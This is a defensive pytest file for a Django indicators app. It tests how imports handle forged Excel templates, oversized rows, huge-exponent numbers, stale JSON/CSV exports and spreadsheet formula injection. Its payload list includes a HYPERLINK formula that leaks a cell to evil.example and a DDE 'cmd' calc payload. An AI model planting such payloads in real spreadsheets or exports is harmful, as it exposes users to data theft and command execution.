"""Hostile files and hostile text in the interchange: a template whose hidden sheet lists
cells far outside its table, numbers with huge exponents, formulas hidden in comments
and names, and a JSON or CSV export uploaded after its figures changed in the system."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import tracemalloc
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from apps.access.events import Event
from apps.access.models import AuditLog
from apps.accounts.demo import SYSTEM
from apps.geo.models import AdministrativeUnit
from apps.indicators import services
from apps.indicators.interchange import datavaluesets, xlsx
from apps.indicators.models import Indicator, Submission
from apps.indicators.services import Entry
from apps.indicators.tests.test_interchange import rich, scramble, snapshot
from apps.indicators.tests.test_interchange_web import cell_of, saved, template_of, upload, vi
from apps.indicators.tests.world import ReportWorld

pytestmark = pytest.mark.django_db

OUTSIDE = (
    "The template lists cells outside its table of figures: download the template again from the "
    "report's import page."
)
FORMULAS = [
    '=HYPERLINK("http://evil.example/x?"&B6,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "#N/A",
]


@pytest.fixture(autouse=True)
def english() -> Any:
    with translation.override("en"):
        yield


def peak_memory(call: Callable[[], Any]) -> tuple[Any, int]:
    """What the call returns (or the exception it raises) and the most memory it held."""
    tracemalloc.start()
    try:
        try:
            outcome: Any = call()
        except Exception as exc:  # the outcome is asserted by the caller
            outcome = exc
        return outcome, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def total_header() -> str:
    with translation.override("vi"):
        return gettext("Total")


def book_of(submission: Submission) -> Any:
    """The report's template as the page gives it (in Vietnamese), without a request, so
    that the messages of the calls that follow stay in English."""
    with translation.override("vi"):
        data = xlsx.build_template(submission)
    return load_workbook(io.BytesIO(data))


def forged(
    book: Any, *, coordinate: str | None = None, junk_rows: int = 0, junk_column: int = 16384
) -> bytes:
    """The template with the first cell its hidden sheet lists moved to `coordinate`, and
    rows of one cell each far right on its visible sheet (a few kilobytes zipped)."""
    if coordinate is not None:
        book["_codes"].cell(row=xlsx.FIRST_ENTRY_ROW, column=1).value = coordinate
    sheet = book.worksheets[0]
    start = sheet.max_row + 1
    for row in range(start, start + junk_rows):
        sheet.cell(row=row, column=junk_column, value=1)
    return saved(book)


# --------------------------------------------------------------------------- 1. the grid


@pytest.mark.parametrize("coordinate", ["XFD40", "E99999", "AZ6", "A6", "B7", "E1", "E5"])
def test_a_template_listing_a_cell_outside_its_table_is_refused(demo: Any, coordinate: str) -> None:
    world = ReportWorld(demo)
    book = book_of(world.submission)
    data = forged(book, coordinate=coordinate)
    with pytest.raises(datavaluesets.FileRefused) as refused:
        xlsx.read_template(data, world.submission)
    assert str(refused.value) == OUTSIDE


def test_a_small_file_cannot_make_the_reader_fill_a_huge_grid(demo: Any) -> None:
    """The attack: a listed cell at column XFD, row 2000, and 2000 one-cell rows; read
    as listed it is a grid of 2000 × 16384 cells (hundreds of megabytes)."""
    world = ReportWorld(demo)
    client = demo.client("owner")
    book = book_of(world.submission)
    data = forged(book, coordinate="XFD2000", junk_rows=2000)
    assert len(data) < 200_000
    outcome, peak = peak_memory(lambda: datavaluesets.import_file(data, actor=SYSTEM, only=world.submission))
    assert isinstance(outcome, datavaluesets.FileRefused) and str(outcome) == OUTSIDE
    assert peak < 30 * 1024 * 1024, peak
    # on the page: the message, nothing saved
    before, revision = snapshot(world.submission), world.submission.revision
    response = upload(client, world.submission, data)
    assert response.status_code == 200
    assert vi(OUTSIDE) in response.content.decode()
    assert snapshot(world.submission) == before
    assert Submission.objects.get(pk=world.submission.pk).revision == revision
    assert not AuditLog.objects.filter(event=Event.DATAVALUES_IMPORTED).exists()


def test_a_row_of_a_hundred_thousand_cells_is_refused_before_it_is_parsed(demo: Any) -> None:
    """openpyxl parses a whole row whatever columns are asked for: one row of 150 000
    cells (3 MB of XML, 20 kB zipped) is refused by its unpacked size."""
    world = ReportWorld(demo)
    template = zipfile.ZipFile(io.BytesIO(saved(book_of(world.submission))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in template.namelist():
            part = template.read(name)
            if name == "xl/worksheets/sheet1.xml":
                wide = b'<row r="6">' + b'<c r="E6"><v>1</v></c>' * 150_000 + b"</row>"
                part = part.replace(b'<row r="6"', wide + b'<row r="6"', 1)
            archive.writestr(name, part)
    data = out.getvalue()
    assert len(data) < 100_000
    outcome, peak = peak_memory(lambda: datavaluesets.import_file(data, actor=SYSTEM, only=world.submission))
    assert isinstance(outcome, datavaluesets.FileRefused), outcome
    assert str(outcome) == "The file is refused: its compressed content is abnormal."
    assert peak < 30 * 1024 * 1024, peak


def test_rows_and_columns_outside_the_listed_cells_are_not_read(demo: Any) -> None:
    world = ReportWorld(demo)
    book = book_of(world.submission)
    cell_of(book.worksheets[0], "BD-C03", total_header()).value = 9
    data = forged(book, junk_rows=3000)
    outcome, peak = peak_memory(lambda: datavaluesets.import_file(data, actor=SYSTEM, only=world.submission))
    assert isinstance(outcome, datavaluesets.ImportResult) and outcome.ok, outcome
    assert peak < 30 * 1024 * 1024, peak
    assert world.submission.values.get(indicator__code="BD-C03", category="").numerator == 9


def test_a_template_with_a_listed_cell_beside_its_table_still_reads_its_own_cells(demo: Any) -> None:
    """The bound is the template's own table: a cell of the last category column and
    of the comment column, on the last row, are inside it."""
    world = ReportWorld(demo)
    book = book_of(world.submission)
    codes = book["_codes"]
    listed = [
        codes.cell(row=row, column=1).value
        for row in range(xlsx.FIRST_ENTRY_ROW, codes.max_row + 1)
        if codes.cell(row=row, column=1).value
    ]
    sheet = book.worksheets[0]
    assert max(sheet[c].row for c in listed) == sheet.max_row
    assert max(sheet[c].column for c in listed) == sheet.max_column
    assert xlsx.read_template(saved(book), world.submission) == []


# --------------------------------------------------------------------------- 2. huge numbers


def _json(world: ReportWorld, value: str, *, period: str = '"2026S1"', element: str = '"BD-C03"') -> bytes:
    """A JSON file written by hand: `value` and `period` as they stand in the text."""
    unit = world.demo.commune.code
    row = f'{{"dataElement": {element}, "period": {period}, "value": {value}}}'
    return f'{{"dataSet": "BD-6T", "orgUnit": "{unit}", "dataValues": [{row}]}}'.encode()


HUGE = ["1e100000000", "-1e1000000", "1E+999999999999999999999", "9" * 5000, "1e16", '"1e100000000"']


@pytest.mark.parametrize("written", HUGE, ids=lambda w: w[:24])
def test_a_json_value_with_a_huge_exponent_is_a_refused_row(demo: Any, written: str) -> None:
    world = ReportWorld(demo)
    outcome, peak = peak_memory(lambda: datavaluesets.import_file(_json(world, written), actor=SYSTEM))
    assert isinstance(outcome, datavaluesets.ImportResult), outcome
    [report] = outcome.reports
    assert [r.reason for r in report.rejected] == [f"“{written.strip(chr(34))[:30]}” is not a number."]
    assert not report.saved
    assert not world.submission.values.filter(indicator__code="BD-C03").exists()
    assert peak < 20 * 1024 * 1024, peak


@pytest.mark.parametrize("written", ["1e100000000", "-1e1000000", "1E+999999999999999999999", "9" * 5000])
def test_a_json_period_or_code_given_as_a_huge_number_is_a_refused_row(demo: Any, written: str) -> None:
    world = ReportWorld(demo)
    for data in (_json(world, '"3"', period=written), _json(world, '"3"', element=written)):
        outcome, peak = peak_memory(lambda data=data: datavaluesets.import_file(data, actor=SYSTEM))
        assert isinstance(outcome, datavaluesets.ImportResult), outcome
        assert not outcome.ok
        assert peak < 20 * 1024 * 1024, peak
    assert not world.submission.values.filter(indicator__code="BD-C03").exists()


def test_a_tiny_number_is_rounded_without_being_expanded(demo: Any) -> None:
    world = ReportWorld(demo)
    outcome, peak = peak_memory(lambda: datavaluesets.import_file(_json(world, "1e-100000000"), actor=SYSTEM))
    assert isinstance(outcome, datavaluesets.ImportResult) and outcome.ok, outcome
    assert world.submission.values.get(indicator__code="BD-C03").numerator == 0
    assert peak < 20 * 1024 * 1024, peak


@pytest.mark.parametrize("written", ["1e100000000", "-1e1000000", "1E+999999999999999999999", "9" * 5000])
def test_a_csv_value_with_a_huge_exponent_is_a_refused_row(demo: Any, written: str) -> None:
    ReportWorld(demo)
    data = f"dataelement,period,orgunit,attributeoptioncombo,value\nBD-C03,2026S1,{demo.commune.code},BD-6T,{written}\n"
    outcome, peak = peak_memory(lambda: datavaluesets.import_file(data.encode(), actor=SYSTEM))
    assert isinstance(outcome, datavaluesets.ImportResult), outcome
    assert [r.reason for r in outcome.reports[0].rejected] == [f"“{written[:30]}” is not a number."]
    assert peak < 20 * 1024 * 1024, peak
    period = data.replace("BD-C03,2026S1", f"BD-C03,{written}").encode()
    outcome = datavaluesets.import_file(period, actor=SYSTEM)
    assert [r.ref for r in outcome.unplaced] == ["line 2"]


def test_a_template_cell_or_original_with_a_huge_exponent_is_refused(demo: Any) -> None:
    world = ReportWorld(demo)
    book = book_of(world.submission)
    cell = cell_of(book.worksheets[0], "BD-C03", total_header())
    cell.value = "1e100000000"
    result = datavaluesets.import_file(saved(book), actor=SYSTEM, only=world.submission)
    assert [(r.ref, r.reason) for r in result.reports[0].rejected] == [
        (f"cell {cell.coordinate}", "“1e100000000” is not a number.")
    ]
    book = book_of(world.submission)
    codes = book["_codes"]
    row = next(r for r in range(1, codes.max_row + 1) if codes.cell(row=r, column=1).value == cell.coordinate)
    codes.cell(row=row, column=5).value = "1E+100000000"
    with pytest.raises(datavaluesets.FileRefused):
        datavaluesets.import_file(saved(book), actor=SYSTEM, only=world.submission)


def test_the_upload_page_answers_a_huge_exponent_with_a_message(demo: Any) -> None:
    world = ReportWorld(demo)
    client = demo.client("owner")
    for data in (_json(world, "1e100000000"), _json(world, '"3"', period="1e100000000")):
        response = upload(client, world.submission, data, name="x.json")
        assert response.status_code == 200
        assert 'data-testid="rejected-rows"' in response.content.decode()
    assert not world.submission.values.filter(indicator__code="BD-C03").exists()


# --------------------------------------------------------------------------- 3. formulas


def _with_formulas(world: ReportWorld) -> Submission:
    demo = world.demo
    user = demo.user("owner")
    type(user).objects.filter(pk=user.pk).update(full_name="=1+1")
    owner = type(user).objects.get(pk=user.pk)
    Indicator.objects.filter(code="BD-C03").update(name_vi="=2+2", unit_label="@A1")
    AdministrativeUnit.objects.filter(pk=demo.commune.pk).update(name="=3+3")
    entries = {
        ("BD-C03", ""): Entry(Decimal(7), comment=FORMULAS[0]),
        ("BD-C04", ""): Entry(Decimal(2), comment=FORMULAS[1]),
        ("BD-C08", ""): Entry(Decimal(1), comment=FORMULAS[2]),
        ("BD-T01", ""): Entry(Decimal(1), comment=FORMULAS[3], reason="Sổ thôn"),
        ("BD-F01", ""): Entry(Decimal(1), comment=FORMULAS[4]),
        ("BD-C01", ""): Entry(Decimal(5), reason=FORMULAS[0], comment="'=already quoted"),
    }
    return services.save_values(Submission.objects.get(pk=world.submission.pk), entries, actor=owner)


def test_text_in_the_template_is_never_a_formula(demo: Any) -> None:
    world = ReportWorld(demo)
    submission = _with_formulas(world)
    client = demo.client("owner")
    book = template_of(client, submission)
    with translation.override("vi"):
        comment, reason = gettext("Comment"), gettext("Reason for a change")
    sheet = book.worksheets[0]
    for code, text in zip(("BD-C03", "BD-C04", "BD-C08", "BD-T01", "BD-F01"), FORMULAS, strict=True):
        cell = cell_of(sheet, code, comment)
        assert (cell.value, cell.data_type) == (text, "s")
    assert (cell_of(sheet, "BD-C01", reason).value, cell_of(sheet, "BD-C01", reason).data_type) == (
        FORMULAS[0],
        "s",
    )
    name = cell_of(sheet, "BD-C03", comment).row
    assert [
        (sheet.cell(row=name, column=c).value, sheet.cell(row=name, column=c).data_type) for c in (2, 3)
    ] == [
        ("=2+2", "s"),
        ("@A1", "s"),
    ]
    assert sheet["A2"].value.startswith("=3+3") and sheet["A2"].data_type == "s"
    for written in book.worksheets:
        for row in written.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", cell.coordinate
    # uploaded untouched, the template changes nothing; a figure changed keeps the comments
    before = snapshot(submission)
    result = datavaluesets.import_file(saved(book), actor=SYSTEM, only=submission)
    assert result.ok and result.imported_count == 0
    assert snapshot(submission) == before
    cell_of(sheet, "BD-C08", total_header()).value = 4
    assert datavaluesets.import_file(saved(book), actor=demo.user("owner"), only=submission).ok
    c08 = submission.values.get(indicator__code="BD-C08", category="")
    assert (c08.numerator, c08.comment) == (4, FORMULAS[2])
    assert submission.values.get(indicator__code="BD-C03", category="").comment == FORMULAS[0]


def test_the_csv_export_neutralises_formulas_and_the_import_gives_them_back(demo: Any) -> None:
    world = ReportWorld(demo)
    submission = _with_formulas(world)
    text = demo.client("owner").get(f"/indicators/data/{submission.pk}/export.csv").content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    comments = {row[0]: row[8] for row in rows[1:]}
    assert comments["BD-C03"] == "'" + FORMULAS[0]
    assert comments["BD-F01"] == FORMULAS[4]  # "#N/A" is no formula: left alone
    assert comments["BD-C01"] == "''=already quoted\nLý do thay đổi: " + FORMULAS[0]
    assert {row[6] for row in rows[1:]} == {"'=1+1"}
    # the round trip loses nothing, not even the quote that was there
    before = snapshot(submission)
    scramble(submission)
    result = datavaluesets.import_file(text.encode(), actor=demo.user("owner"))
    assert result.ok, (result.unplaced, [r.rejected for r in result.reports])
    assert snapshot(submission) == before
    # JSON is no spreadsheet: its text stays as it is
    document = json.loads(datavaluesets.to_json([submission]))
    assert {v["comment"] for v in document["dataValues"]} >= {FORMULAS[0], FORMULAS[2]}


@pytest.mark.parametrize(
    "text", ["", "=", "'", "''", "'=x", "''+x", "-", "a=b", "'a", "\t=x", " =x", "@", '=HYPERLINK("x")']
)
def test_a_csv_cell_round_trips_and_never_starts_a_formula(text: str) -> None:
    cell = datavaluesets.csv_cell(text)
    assert datavaluesets.csv_text(cell) == text
    assert not cell.startswith(datavaluesets.FORMULA_START)


# --------------------------------------------------------------------------- 4. stale files


def _export(client: Any, submission: Submission) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(client.get(f"/indicators/data/{submission.pk}/export.json").content)
    return document


def _row(document: dict[str, Any], element: str) -> dict[str, Any]:
    return next(
        r
        for r in document["dataValues"]
        if r["dataElement"] == element and r["categoryOptionCombo"] == "default"
    )


def _an_hour_older(row: dict[str, Any]) -> None:
    stamp = dt.datetime.fromisoformat(row["lastUpdated"]) - dt.timedelta(hours=1)
    row["lastUpdated"] = stamp.isoformat(timespec="seconds")


def _as_csv(document: dict[str, Any]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(datavaluesets.CSV_COLUMNS)
    for row in document["dataValues"]:
        writer.writerow(
            [
                row["dataElement"],
                document["period"],
                document["orgUnit"],
                row["categoryOptionCombo"],
                document["dataSet"],
                row["value"],
                "",
                row.get("lastUpdated", ""),
                datavaluesets.csv_cell(row.get("comment", "")),
                "false",
            ]
        )
    return out.getvalue().encode()


def _vi_total() -> str:
    with translation.override("vi"):
        return str(gettext("total"))


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_an_old_export_uploaded_on_the_page_does_not_overwrite_newer_figures(demo: Any, fmt: str) -> None:
    world = ReportWorld(demo)
    submission = rich(world)
    client = demo.client("owner")
    document = _export(client, submission)
    # the commune changes BD-M01's numerator in its copy ...
    _row(document, "BD-M01.N")["value"] = "2"
    # ... and a colleague meanwhile saved BD-C03 = 5 in the system: the file still holds
    # the figure it was exported with, an hour before that save
    services.save_values(submission, {("BD-C03", ""): Entry(Decimal(5))}, actor=demo.user("focal"))
    old = _row(document, "BD-C03")
    old["lastUpdated"] = _row(_export(client, submission), "BD-C03")["lastUpdated"]
    _an_hour_older(old)
    data = json.dumps(document).encode() if fmt == "json" else _as_csv(document)
    before = snapshot(submission)
    response = upload(client, submission, data, name=f"old.{fmt}")
    html = response.content.decode()
    assert 'data-testid="rejected-rows"' in html
    message = "%(name)s was changed in the system after this file was exported (now %(now)s): export the figures again."
    assert vi(message, name=f"BD-C03 ({_vi_total()})", now="5") in html
    assert "BD-M01" not in html.split('data-testid="rejected-rows"')[1]  # only the stale figure
    assert snapshot(submission) == before
    # from the command line the file is imported as it says (the check is the page's)
    assert datavaluesets.import_file(data, actor=demo.user("owner")).ok
    c03 = submission.values.get(indicator__code="BD-C03", category="").numerator
    assert c03 == Decimal(old["value"]) and c03 != 5
    assert submission.values.get(indicator__code="BD-M01", category="").numerator == 2


def test_an_old_export_imports_on_the_page_where_its_figures_are_still_current(demo: Any) -> None:
    world = ReportWorld(demo)
    submission = rich(world)
    client = demo.client("owner")
    services.save_values(submission, {("BD-C03", ""): Entry(Decimal(5))}, actor=demo.user("focal"))
    document = _export(client, submission)
    # the file is older than the system's BD-C03 but says the same; BD-M01 it changes
    # was not changed in the system since the export; BD-C04 is new
    _an_hour_older(_row(document, "BD-C03"))
    _row(document, "BD-M01.N")["value"] = "2"
    document["dataValues"].append(
        {
            "dataElement": "BD-C04",
            "categoryOptionCombo": "default",
            "value": "3",
            "lastUpdated": "2020-01-01T00:00:00",
        }
    )
    response = upload(client, submission, json.dumps(document).encode(), name="ok.json")
    assert "rejected-rows" not in response.content.decode()
    assert submission.values.get(indicator__code="BD-M01", category="").numerator == 2
    assert submission.values.get(indicator__code="BD-C04", category="").numerator == 3
    assert submission.values.get(indicator__code="BD-C03", category="").numerator == 5


@pytest.mark.parametrize("stamp", ["", "hôm qua", "2026-13-45T99:00:00", "9" * 100, "2026-07-01T09:30:00"])
def test_a_lastupdated_that_is_not_a_time_is_ignored_and_a_naive_one_is_local(stamp: str) -> None:
    rows = datavaluesets.read_json(
        json.dumps({"dataValues": [{"dataElement": "BD-C03", "value": "1", "lastUpdated": stamp}]}).encode()
    )
    if stamp.startswith("2026-07"):
        assert rows[0].stamp is not None and rows[0].stamp.utcoffset() == dt.timedelta(hours=7)
    else:
        assert rows[0].stamp is None
